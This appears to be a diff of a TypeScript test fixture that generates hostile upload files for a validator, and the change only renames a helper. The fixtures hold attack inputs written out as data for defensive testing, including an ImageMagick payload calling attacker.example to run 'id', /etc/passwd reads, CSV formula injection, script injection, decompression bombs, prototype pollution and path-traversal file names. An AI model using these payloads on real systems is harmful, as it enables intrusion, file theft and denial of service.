@@ -9,7 +9,7 @@ import { hostilePdfs } from './hostile-pdfs.server.ts';
 import { entities, hostileWorkbooks } from './hostile-workbooks.server.ts';
 
 const MB = 1024 * 1024;
-const of = (text: string) => Buffer.from(text);
+const fileOf = (text: string) => Buffer.from(text);
 
 export type GoodFile = { what: string; name: string; bytes: Buffer };
 
@@ -30,7 +30,7 @@ export async function goodFiles(): Promise<GoodFile[]> {
     { what: 'a PDF', name: 'a.pdf', bytes: onePagePdf(['A bed', 'with rails']) },
     { what: 'a workbook', name: 'a.xlsx', bytes: Buffer.from(await book.xlsx.writeBuffer()) },
     { what: 'a ZIP of pictures', name: 'a.zip', bytes: aZip([{ name: 'GOOD-1.png', bytes: png }]) },
-    { what: 'a CSV', name: 'a.csv', bytes: of('Position,Item,Quantity,Description,Unit\n1,GOOD-1,2,Bed,EA\n') },
+    { what: 'a CSV', name: 'a.csv', bytes: fileOf('Position,Item,Quantity,Description,Unit\n1,GOOD-1,2,Bed,EA\n') },
   ];
 }
 
@@ -45,11 +45,11 @@ const DAMAGE: [what: string, change: (bytes: Buffer) => Buffer][] = [
   ],
   ['great lengths', (bytes) => Buffer.from(bytes).fill(0xff, 20, Math.min(bytes.length, 36))],
   ['twice', (bytes) => Buffer.concat([bytes, bytes])],
-  ['with a page behind it', (bytes) => Buffer.concat([bytes, of('<html><script>window.hacked=1</script>')])],
-  ['with a program before it', (bytes) => Buffer.concat([of('MZ\u0090\u0000'), bytes])],
+  ['with a page behind it', (bytes) => Buffer.concat([bytes, fileOf('<html><script>window.hacked=1</script>')])],
+  ['with a program before it', (bytes) => Buffer.concat([fileOf('MZ\u0090\u0000'), bytes])],
   [
     'with an archive behind it',
-    (bytes) => Buffer.concat([bytes, aZip([{ name: '../../a.sh', bytes: of('#!/bin/sh') }])]),
+    (bytes) => Buffer.concat([bytes, aZip([{ name: '../../a.sh', bytes: fileOf('#!/bin/sh') }])]),
   ],
 ];
 
@@ -70,7 +70,7 @@ function pngOf(width: number, height: number, more: Buffer[] = [], type = [8, 2,
   ]);
 }
 function chunk(type: string, data: Buffer, length = data.length): Buffer {
-  const body = Buffer.concat([of(type), data]);
+  const body = Buffer.concat([fileOf(type), data]);
   const ends = Buffer.alloc(8);
   ends.writeUInt32BE(length, 0);
   ends.writeUInt32BE(crc32(body), 4);
@@ -79,7 +79,7 @@ function chunk(type: string, data: Buffer, length = data.length): Buffer {
 
 function pictures(good: (what: string) => Buffer): HostileFile[] {
   const bomb = () => deflateSync(Buffer.alloc(64 * MB));
-  const named = of('a\0\0');
+  const named = fileOf('a\0\0');
   const jpeg = good('a JPEG');
   const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
   const scan = jpeg.subarray(jpeg.indexOf(Buffer.from([0xff, 0xda])), jpeg.length - 2);
@@ -119,9 +119,9 @@ function pictures(good: (what: string) => Buffer): HostileFile[] {
       head.subarray(6, 10),
       Buffer.from([0, 2, 1, 0x44, 0]),
     ]);
-    return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), of(';')]);
+    return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), fileOf(';')]);
   };
-  const svg = (text: string) => of(`<svg xmlns="http://www.w3.org/2000/svg">${text}</svg>`);
+  const svg = (text: string) => fileOf(`<svg xmlns="http://www.w3.org/2000/svg">${text}</svg>`);
   return (
     [
       ['60,000 × 60,000 pixels', 'a.png', pngOf(60_000, 60_000)],
@@ -131,11 +131,11 @@ function pictures(good: (what: string) => Buffer): HostileFile[] {
       ['fewer lines than it says', 'a.png', pngOf(7000, 7000, [], [16, 6, 0, 0, 0])],
       ['an unknown color type', 'a.png', pngOf(100, 100, [], [8, 77, 9, 9, 9])],
       ['a palette without colors', 'a.png', pngOf(100, 100, [], [8, 3, 0, 0, 0])],
-      ['a chunk longer than the file', 'a.png', pngOf(100, 100, [chunk('tEXt', of('a'), 0x7fff_ffff)])],
+      ['a chunk longer than the file', 'a.png', pngOf(100, 100, [chunk('tEXt', fileOf('a'), 0x7fff_ffff)])],
       ['a color profile of 64 MB', 'a.png', () => pngOf(100, 100, [chunk('iCCP', Buffer.concat([named, bomb()]))])],
       ['a text of 64 MB', 'a.png', () => pngOf(100, 100, [chunk('zTXt', Buffer.concat([named, bomb()]))])],
       ['64 MB of points for a small picture', 'a.png', () => pngOf(50, 50, [chunk('IDAT', bomb())])],
-      ['5,000 empty chunks', 'a.png', () => pngOf(50, 50, Array(5000).fill(chunk('tEXt', of('a\0b'))) as Buffer[])],
+      ['5,000 empty chunks', 'a.png', () => pngOf(50, 50, Array(5000).fill(chunk('tEXt', fileOf('a\0b'))) as Buffer[])],
       ['nothing but a beginning', 'a.png', pngOf(1, 1).subarray(0, 8)],
       ['a JPEG of 65,500 × 65,500', 'a.jpg', changed(jpeg, (copy) => copy.writeUInt32BE(0xffdc_ffdc, sof + 5))],
       ['a JPEG without height', 'a.jpg', changed(jpeg, (copy) => copy.writeUInt16BE(0, sof + 5))],
@@ -162,11 +162,11 @@ function pictures(good: (what: string) => Buffer): HostileFile[] {
       ['a WebP longer than it is', 'a.webp', changed(good('a WebP'), (copy) => copy.writeUInt32LE(0xffff_fffe, 4))],
       ['a drawing that runs', 'a.svg', svg('<script>window.hacked=1</script>')],
       ['a drawing called a picture', 'a.png', svg('<image href="file:///etc/passwd"/>')],
-      ['a drawing of entities', 'a.svg', of(`${entities()}<svg>&e9;</svg>`)],
+      ['a drawing of entities', 'a.svg', fileOf(`${entities()}<svg>&e9;</svg>`)],
       ['a drawing nested without end', 'a.png', () => svg('<g>'.repeat(200_000))],
-      ['PostScript', 'a.eps', of('%!PS\n(/etc/passwd) (r) file run')],
-      ['an ImageMagick script', 'a.png', of('push graphic-context\nfill \'url(https://attacker.example/a"|id")\'')],
-      ['a picture for a phone', 'a.heic', of('\0\0\0\u0018ftypheic\0\0\0\0')],
+      ['PostScript', 'a.eps', fileOf('%!PS\n(/etc/passwd) (r) file run')],
+      ['an ImageMagick script', 'a.png', fileOf('push graphic-context\nfill \'url(https://attacker.example/a"|id")\'')],
+      ['a picture for a phone', 'a.heic', fileOf('\0\0\0\u0018ftypheic\0\0\0\0')],
     ] as [string, string, Bytes][]
   ).map(([what, name, bytes]) => aHostileFile(what, name, bytes));
 }
@@ -175,39 +175,47 @@ function texts(): HostileFile[] {
   const HEAD = 'Item,Description,Unit\n';
   return (
     [
-      ['20 MB in one line', 'a.csv', () => of('a'.repeat(20 * MB))],
-      ['a million columns', 'a.csv', () => of(','.repeat(1_000_000))],
-      ['a quote that never ends', 'a.csv', () => of(`${HEAD}"${'a,\n'.repeat(500_000)}`)],
-      ['nothing but quotes', 'a.csv', () => of('"'.repeat(500_001))],
-      ['quotes in quotes', 'a.csv', () => of(`${HEAD}${'"a""b"c"",'.repeat(50_000)}`)],
-      ['a million blank lines', 'a.csv', () => of('\n'.repeat(1_000_000))],
-      ['three million lines', 'a.csv', () => of(`${HEAD}${'a\n'.repeat(3_000_000)}`)],
+      ['20 MB in one line', 'a.csv', () => fileOf('a'.repeat(20 * MB))],
+      ['a million columns', 'a.csv', () => fileOf(','.repeat(1_000_000))],
+      ['a quote that never ends', 'a.csv', () => fileOf(`${HEAD}"${'a,\n'.repeat(500_000)}`)],
+      ['nothing but quotes', 'a.csv', () => fileOf('"'.repeat(500_001))],
+      ['quotes in quotes', 'a.csv', () => fileOf(`${HEAD}${'"a""b"c"",'.repeat(50_000)}`)],
+      ['a million blank lines', 'a.csv', () => fileOf('\n'.repeat(1_000_000))],
+      ['three million lines', 'a.csv', () => fileOf(`${HEAD}${'a\n'.repeat(3_000_000)}`)],
       ['zeros', 'a.csv', () => Buffer.alloc(1_000_000)],
       ['bytes that are no text', 'a.csv', Buffer.alloc(100_000, 0xfe)],
       ['half letters of UTF-16', 'a.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.alloc(9999, 0xd8)])],
       ['only a byte order mark', 'a.csv', Buffer.from([0xef, 0xbb, 0xbf])],
-      ['half letters', 'a.csv', Buffer.concat([of(HEAD), Buffer.from([0xed, 0xa0, 0x80, 0x2c, 0xc0, 0xaf, 0x0a])])],
-      ['formulas', 'a.csv', of(`${HEAD}=cmd|'/c calc'!A1,@SUM(1),+1\n`)],
-      ['the same heading a thousand times', 'a.csv', of(`${'Item,'.repeat(1000)}\n`)],
-      ['names of the language', 'a.csv', of('__proto__,constructor,toString\n1,2,3\n')],
-      ['markup', 'a.csv', of(`${HEAD}<script>window.hacked=1</script>,<img src=x>,'\n`)],
+      ['half letters', 'a.csv', Buffer.concat([fileOf(HEAD), Buffer.from([0xed, 0xa0, 0x80, 0x2c, 0xc0, 0xaf, 0x0a])])],
+      ['formulas', 'a.csv', fileOf(`${HEAD}=cmd|'/c calc'!A1,@SUM(1),+1\n`)],
+      ['the same heading a thousand times', 'a.csv', fileOf(`${'Item,'.repeat(1000)}\n`)],
+      ['names of the language', 'a.csv', fileOf('__proto__,constructor,toString\n1,2,3\n')],
+      ['markup', 'a.csv', fileOf(`${HEAD}<script>window.hacked=1</script>,<img src=x>,'\n`)],
       ['64 MB packed', 'a.csv', () => gzipSync(Buffer.alloc(64 * MB, 'a,b\n'))],
-      ['packed and broken off', 'a.csv', gzipSync(of(HEAD.repeat(9999))).subarray(0, 60)],
-      ['packed ten times', 'a.csv', Array.from({ length: 10 }).reduce<Buffer>((bytes) => gzipSync(bytes), of(HEAD))],
-      ['lists nested without end', 'a.json', () => of('['.repeat(500_000))],
-      ['objects nested without end', 'a.json', () => of(`${'{"items":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
-      ['a prototype', 'a.json', of('{"__proto__":{"admin":true},"configId":"a","items":[{"__proto__":{"qty":1}}]}')],
+      ['packed and broken off', 'a.csv', gzipSync(fileOf(HEAD.repeat(9999))).subarray(0, 60)],
+      [
+        'packed ten times',
+        'a.csv',
+        Array.from({ length: 10 }).reduce<Buffer>((bytes) => gzipSync(bytes), fileOf(HEAD)),
+      ],
+      ['lists nested without end', 'a.json', () => fileOf('['.repeat(500_000))],
+      ['objects nested without end', 'a.json', () => fileOf(`${'{"items":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
+      [
+        'a prototype',
+        'a.json',
+        fileOf('{"__proto__":{"admin":true},"configId":"a","items":[{"__proto__":{"qty":1}}]}'),
+      ],
       [
         'numbers beyond numbers',
         'a.json',
-        of(`{"configId":"a","items":[{"itemNumber":"a","qty":1e999},{"qty":${'9'.repeat(5000)}}]}`),
+        fileOf(`{"configId":"a","items":[{"itemNumber":"a","qty":1e999},{"qty":${'9'.repeat(5000)}}]}`),
       ],
-      ['half a million items', 'a.json', () => of(`{"configId":"a","items":[${'{},'.repeat(500_000)}{}]}`)],
-      ['JSON broken off', 'a.json', of('{"configId":"a","items":[{"itemNumber":')],
+      ['half a million items', 'a.json', () => fileOf(`{"configId":"a","items":[${'{},'.repeat(500_000)}{}]}`)],
+      ['JSON broken off', 'a.json', fileOf('{"configId":"a","items":[{"itemNumber":')],
       [
         'a place far out',
         'a.geojson',
-        of(
+        fileOf(
           '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ZCTA5CE20":"60601"},"geometry":{"type":"Polygon","coordinates":[[[1e308,1e308],[-1e308,0],[0,0],[1e308,1e308]]]}}]}',
         ),
       ],
@@ -215,22 +223,22 @@ function texts(): HostileFile[] {
         'an area of 300,000 corners that cross',
         'a.geojson',
         () =>
-          of(
+          fileOf(
             `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ZCTA5CE20":"60601"},"geometry":{"type":"Polygon","coordinates":[[${Array.from({ length: 300_000 }, (_, at) => `[${-88 + (at % 2)},${40 + (at % 997) / 1000}]`).join()}]]}}]}`,
           ),
       ],
       [
         'places nested without end',
         'a.geojson',
-        () => of(`{"type":"FeatureCollection","features":[{"geometry":{"coordinates":${'['.repeat(200_000)}`),
+        () => fileOf(`{"type":"FeatureCollection","features":[{"geometry":{"coordinates":${'['.repeat(200_000)}`),
       ],
-      ['a shell script', 'a.txt', of('#!/bin/sh\nid\n')],
-      ['a page', 'a.html', of('<!doctype html><script>window.hacked=1</script>')],
+      ['a shell script', 'a.txt', fileOf('#!/bin/sh\nid\n')],
+      ['a page', 'a.html', fileOf('<!doctype html><script>window.hacked=1</script>')],
       ['nothing', 'a.pdf', Buffer.alloc(0)],
-      ['a name that leads outside', '../../../../tmp/evil.csv', of(HEAD)],
-      ['a name with a line end', 'a\r\nSet-Cookie: a=b.csv', of(HEAD)],
-      ['a name that reads backwards', 'a\u202evsc.exe', of(HEAD)],
-      ['a name of 5,000 letters', `${'a'.repeat(5000)}.csv`, of(HEAD)],
+      ['a name that leads outside', '../../../../tmp/evil.csv', fileOf(HEAD)],
+      ['a name with a line end', 'a\r\nSet-Cookie: a=b.csv', fileOf(HEAD)],
+      ['a name that reads backwards', 'a\u202evsc.exe', fileOf(HEAD)],
+      ['a name of 5,000 letters', `${'a'.repeat(5000)}.csv`, fileOf(HEAD)],
     ] as [string, string, Bytes][]
   ).map(([what, name, bytes]) => aHostileFile(what, name, bytes));
 }
